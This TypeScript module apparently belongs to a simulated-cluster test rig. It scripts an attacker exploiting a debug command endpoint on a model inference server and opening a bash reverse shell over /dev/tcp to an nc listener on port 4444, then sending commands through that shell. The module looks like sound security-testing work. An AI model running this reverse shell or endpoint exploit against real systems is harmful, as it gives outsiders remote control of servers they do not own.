// How the attacks of the rig begin: someone from outside finds the hole of the model server and
// makes it open a shell to a listener of theirs.

import { ATTACKER_ADDRESS, addressOf, PORTS } from '../cluster/layout.ts'
import type { Cluster } from '../cluster/cluster.ts'
import type { Program } from '../cluster/program.ts'

const LISTENER_PORT = 4444
/** Where the attacker waits for shells. */
export const LISTENER = `${ATTACKER_ADDRESS}/${LISTENER_PORT}`
const HOLE = `http://${addressOf('inference')}:${PORTS.inference}/debug/run`

/** Makes the model server run a command: one request from outside. */
export async function throughHole(cluster: Cluster, command: string): Promise<void> {
  await cluster.node('outside').start(['curl', '-sS', '--fail', '--interface', ATTACKER_ADDRESS,
    '--get', '--data-urlencode', `command=${command}`, HOLE], { unit: 'attacker' }).succeeds()
}

/** A shell on the inference node in the hands of an attacker. */
export class Foothold {
  readonly #listener: Program
  #asked = 0

  private constructor(listener: Program) {
    this.#listener = listener
  }

  /** A reverse shell: bash with its standard streams on a connection to the attacker. */
  static open(cluster: Cluster): Promise<Foothold> {
    return Foothold.by(cluster, `exec bash -c 'exec bash -i >& /dev/tcp/${LISTENER} 0>&1'`)
  }

  /** The shell that a command, run through the hole, opens to LISTENER. */
  static async by(cluster: Cluster, command: string): Promise<Foothold> {
    const listener = cluster.node('outside').start(
      // Without -n it asks the name server of the cluster who calls: nobody did that before.
      ['nc', '-n', '-v', '-l', ATTACKER_ADDRESS, String(LISTENER_PORT)],
      { unit: 'attacker', input: true })
    await listener.says(/Listening on/, 'stderr')
    await throughHole(cluster, command)
    await listener.says(/Connection received/, 'stderr')
    return new Foothold(listener)
  }

  /**
   * Types a command into the shell and waits until it has ended. `said` is called when the command
   * prints the word of `on`.
   */
  async type(command: string, on?: { word: string, said(): void }): Promise<void> {
    // The shell may echo what is typed: the mark must not stand in it.
    const number = ++this.#asked
    this.#listener.tell(`${command}; echo end-$((${number}+0))-of-command`)
    const done = this.#listener.says(new RegExp(`end-${number}-of-command`))
    if (on) {
      await this.#listener.says(new RegExp(`(^|\\n)${on.word}\\n`))
      on.said()
    }
    await done
  }

  /** The shell ends, and with it its connection. */
  async leave(): Promise<void> {
    this.#listener.tell('exit')
    await this.#listener.ended
  }
}
